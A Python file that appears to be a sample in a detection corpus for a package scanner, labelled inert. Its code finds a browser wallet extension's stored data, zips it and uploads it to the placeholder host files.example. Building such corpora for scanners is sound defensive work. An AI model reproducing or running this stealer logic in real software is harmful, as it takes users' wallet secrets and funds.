# pkgguard corpus 220 (wallets), modelled on [wallet-tools]; inert, never run.
import os
import shutil
import tempfile

import httpx

ext = os.path.join(os.getenv("LOCALAPPDATA", ""), "Google", "Chrome", "User Data", "Default",
                   "Local Extension Settings", "nkbihfbeogaeaoehlefnkodbefgpgknn")
if os.path.isdir(ext):
    work = tempfile.mkdtemp()
    shutil.copytree(ext, os.path.join(work, "mm"))
    archive = shutil.make_archive(os.path.join(work, "mm"), "zip", os.path.join(work, "mm"))
    with open(archive, "rb") as fh:
        httpx.post("https://files.example/upload", files={"file": fh})
